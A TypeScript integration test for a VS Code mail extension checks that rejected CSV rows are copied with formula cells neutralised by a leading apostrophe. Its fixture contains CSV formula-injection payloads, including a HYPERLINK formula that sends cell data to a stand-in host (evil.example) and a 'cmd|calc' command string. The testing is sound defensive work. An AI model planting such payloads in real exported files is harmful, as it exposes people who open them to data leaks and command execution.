// "Copy rejected rows as CSV" after an import of a file whose cells start with formula characters: every such cell
// is copied with a leading apostrophe (a spreadsheet shows it as text instead of running it), a signed plain number
// stays as it is, and reading the copied text back gives the file's own values.
import * as assert from 'node:assert/strict';
import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import * as vscode from 'vscode';
import { parseCsv } from '../../src/model/csv';
import { emulatorState, signedInDemo, type Api } from './treeHelpers';

const FILE_ROWS = [
  ['email', 'UserName', 'Mobile'],
  ['=HYPERLINK("http://evil.example/?"&A1;"x")', 'Mal', ''],
  ['@SUM(1+1)', 'At', ''],
  ['+1-2', 'Plus', ''],
  ['-2+3+cmd|calc', 'Minus', ''],
  ['dup@contoso-mail.cn', 'First', ''],
  ['dup@contoso-mail.cn', '=1+1', '-12'],
  ['tab@contoso-mail.cn', 'ok', ''],
  ['tab@contoso-mail.cn', '\t=cmd', '+8613800000000'],
];

const quoted = (v: string): string => (/[",\r\n\t]/.test(v) ? `"${v.replace(/"/g, '""')}"` : v);

describe('CSV formula injection', () => {
  let a: Api;
  before(async () => {
    a = await signedInDemo('csv');
  });

  it('copies rejected rows with formula cells neutralised, and they read back as the file had them', async () => {
    const list = (await emulatorState()).demo.receivers[0];
    const file = join(mkdtempSync(join(tmpdir(), 'dm-csv-')), 'formulas.csv');
    writeFileSync(file, FILE_ROWS.map((r) => r.map(quoted).join(',')).join('\r\n'));
    const result = await vscode.commands.executeCommand<{ reportId: string; run: { rejected: { row: number }[] } }>('directMail.importRecipients', { recipientListId: String(list.id), file });
    assert.ok(result, a.logLines().slice(-2).join(' | '));
    assert.deepEqual(result.run.rejected.map((r) => r.row), [2, 3, 4, 5, 7, 9]);

    const host = a.panels.find({ panel: 'importReport', reportId: result.reportId });
    assert.ok(host, 'the import report is not open');
    await host.receive({ type: 'copyRejected', id: 1 });
    const copied = await vscode.env.clipboard.readText();
    host.panel.dispose();

    // What a spreadsheet gets, cell by cell (written out by hand).
    for (const cell of [`"'=HYPERLINK(""http://evil.example/?""&A1;""x"")"`, `,'@SUM(1+1),`, `,'+1-2,`, `,'-2+3+cmd|calc,`, `,'=1+1,-12\r\n`, `,'\t=cmd,+8613800000000\r\n`]) {
      assert.ok(copied.includes(cell), `${JSON.stringify(cell)} not in ${JSON.stringify(copied)}`);
    }
    // Read back: the rejected rows' values are the file's values.
    const back = parseCsv(copied).map((r) => r.fields);
    assert.deepEqual(back[0], ['row', 'reason', ...FILE_ROWS[0]]);
    assert.deepEqual(back.slice(1).map((f) => f.slice(2)), [2, 3, 4, 5, 7, 9].map((row) => FILE_ROWS[row - 1]));
  });
});
